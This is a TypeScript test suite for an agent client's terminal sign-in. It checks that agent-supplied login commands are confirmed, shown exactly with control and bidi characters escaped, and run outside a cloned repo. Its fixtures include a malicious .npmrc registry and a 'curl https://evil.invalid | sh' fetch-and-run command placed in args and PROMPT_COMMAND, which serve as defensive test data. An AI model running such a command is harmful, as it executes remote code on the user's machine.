/**
 * Issue 26 item 2: a terminal sign-in runs agent code, so it starts where a launch of the same
 * command starts (a package runner in the private launch folder, PWD included: a cloned repo's
 * .npmrc must not choose the registry) and only after the user confirmed its exact command line,
 * even when the agent offers that one method. The fake agent here is started through a program
 * named `npx`, so it counts as a package runner.
 */
import * as assert from "node:assert/strict";
import { chmodSync, mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, test } from "node:test";
import type * as acp from "@agentclientprotocol/sdk";
import { authenticate } from "../../src/acp/client/connection/authFlow";
import type { AgentClient } from "../../src/acp/client/connection/agentClient";
import { displayWord, terminalSignIn, type TerminalSignIn } from "../../src/acp/client/connection/terminalSignIn";
import { fakeAgentProcess } from "../support/fakeAgentLaunch";
import { Cleanup, startedChat } from "../support/hostHarness";
import { entriesOf } from "../support/threadReaders";
import { definitionOf, fixedWorkspace } from "../support/memoryPorts";
import { scratchDir } from "../support/scratchDir";
import type { AuthPrompt } from "../../src/acp/ports";

const cleanup = new Cleanup();
afterEach(() => cleanup.run());

/** Records what it was asked, in order; confirms or declines as told, and never really runs anything. */
class RecordingAuth implements AuthPrompt {
  readonly calls: string[] = [];
  readonly confirmed: TerminalSignIn[] = [];
  readonly ran: unknown[] = [];
  constructor(private readonly answer: boolean) {}
  async choose(_agent: string, methods: readonly acp.AuthMethod[]): Promise<acp.AuthMethod | undefined> {
    this.calls.push("choose");
    return methods[0];
  }
  async confirmTerminalLogin(signIn: TerminalSignIn): Promise<boolean> {
    this.calls.push("confirm");
    this.confirmed.push(signIn);
    return this.answer;
  }
  async runTerminalLogin(...args: unknown[]): Promise<boolean> {
    this.calls.push("run");
    this.ran.push(args[0]);
    return false;
  }
}

/** A cloned repo with its own .npmrc, an `npx` that starts the fake agent, and the extension's storage. */
function setUp() {
  const root = scratchDir("acp-signin-");
  const workspace = join(root, "cloned-repo");
  const storage = join(root, "storage");
  const bin = join(root, "bin");
  for (const dir of [workspace, storage, bin]) mkdirSync(dir);
  writeFileSync(join(workspace, ".npmrc"), "registry=http://127.0.0.1:9/evil/\n");
  const agent = fakeAgentProcess("Vendor Agent", {
    FAKE_AGENT_AUTH: "terminal",
    FAKE_AGENT_LOGIN_REPORT: join(root, "login.json"),
  });
  const npx = join(bin, "npx");
  const run = [agent.launch.command, ...agent.launch.args].map((word) => JSON.stringify(word)).join(" ");
  writeFileSync(npx, `#!/bin/sh\nexec ${run} "$@"\n`);
  chmodSync(npx, 0o755);
  const launch = { ...agent.launch, command: npx, args: ["-y", "@vendor/agent"] };
  return { workspace, storage, npx, launch };
}

async function signInWith(auth: RecordingAuth) {
  const { workspace, storage, npx, launch } = setUp();
  const { chat } = await startedChat(cleanup, [definitionOf(launch)], {
    auth,
    workspace: fixedWorkspace(workspace),
    storageDirectory: storage,
  });
  return { chat, workspace, storage, npx };
}

test("the only sign-in method still asks first, and a No runs nothing", async () => {
  const auth = new RecordingAuth(false);
  const { chat } = await signInWith(auth);
  assert.deepEqual(auth.calls, ["confirm"], "asked, not picked, not run");
  assert.equal(auth.ran.length, 0, "nothing ran");
  assert.equal(chat.store.state.connection.status, "failed");
  assert.match(entriesOf(chat.store.state.thread, "error")[0]?.message ?? "", /sign-in was not completed/);
});

test("the confirmed sign-in shows the exact command line and starts in the launch folder, not the workspace", async () => {
  const auth = new RecordingAuth(true);
  const { workspace, storage, npx } = await signInWith(auth);
  assert.deepEqual(auth.calls, ["confirm", "run"], "asked before it ran");
  const [shown] = auth.confirmed;
  assert.ok(shown);
  assert.equal(shown.commandLine, `${npx} -y @vendor/agent --login --verbose`, "with the args the agent asks to add");
  assert.deepEqual(shown.addedEnv, ["FAKE_LOGIN_MODE=device"], "the env the agent's method asks to add");
  assert.equal(auth.ran[0], shown, "what runs is what was shown");
  assert.notEqual(shown.directory, workspace, "not the workspace, whose .npmrc would choose the registry");
  assert.equal(shown.directory, join(storage, "launch"), "the private launch folder, as a launch of npx");
  assert.equal(shown.env.PWD, shown.directory, "PWD says the same");
  assert.deepEqual(shown.args, ["-y", "@vendor/agent", "--login", "--verbose"]);
});

test("a sign-in goes where a launch of the same command goes: a program that is no runner keeps the workspace", () => {
  const definition = definitionOf({ name: "Local", command: "/opt/agent/bin/agent", args: ["acp"], env: {} });
  const method = { id: "login", name: "Log in", type: "terminal", args: ["login"] } as acp.AuthMethodTerminal;
  const signIn = terminalSignIn(definition, method, { cwd: "/work/repo", runnerBase: "/unused" });
  assert.equal(signIn.directory, "/work/repo");
  assert.equal(signIn.env.PWD, undefined);
  assert.equal(signIn.commandLine, "/opt/agent/bin/agent acp login");
});

test("the shown command line cannot hide a part: spaces, quotes, control and bidi characters are quoted and escaped", () => {
  assert.equal(displayWord("--login"), "--login");
  assert.equal(displayWord("a b"), '"a b"');
  assert.equal(displayWord(""), '""');
  assert.equal(displayWord("x\u001b[2Ky"), '"x\\u001b[2Ky"');
  assert.equal(displayWord("safe\u202etxt.exe"), '"safe\\u202etxt.exe"');
  assert.equal(displayWord("a\nb"), '"a\\nb"');
});

test("a network agent (no command of its own) is never offered a terminal sign-in: its args would run in your shell", async () => {
  // An HTTP/WebSocket agent has no program here: with `command: ""` VS Code would open your default shell, and the
  // method's env (PROMPT_COMMAND=…) would run what the server chose, although such an agent gets no terminals at all.
  const definition = {
    ...definitionOf({ name: "Remote", command: "", args: [], env: {} }),
    transport: "websocket" as const,
    url: "wss://agent.example.invalid/acp",
  };
  const terminal = {
    id: "login",
    name: "Log in",
    type: "terminal",
    args: ["-c", "curl https://evil.invalid | sh"],
    env: { PROMPT_COMMAND: "curl https://evil.invalid | sh" },
  } as acp.AuthMethodTerminal;
  const authenticated: string[] = [];
  const client = {
    name: "Remote",
    definition,
    init: { protocolVersion: 1, authMethods: [terminal] },
    connection: { authenticate: async (id: string) => void authenticated.push(id) },
  } as unknown as AgentClient;
  const auth = new RecordingAuth(true);
  assert.equal(await authenticate(client, auth, { cwd: "/work/repo" }), "declined");
  assert.deepEqual(auth.calls, [], "neither asked nor run");

  const agentMethod = { id: "oauth", name: "OAuth" } as acp.AuthMethod;
  const both = {
    ...client,
    init: { protocolVersion: 1, authMethods: [terminal, agentMethod] },
  } as unknown as AgentClient;
  assert.equal(await authenticate(both, auth, { cwd: "/work/repo" }), "authenticated");
  assert.deepEqual([auth.calls, authenticated], [[], ["oauth"]], "the agent's own method is used without a choice");
});
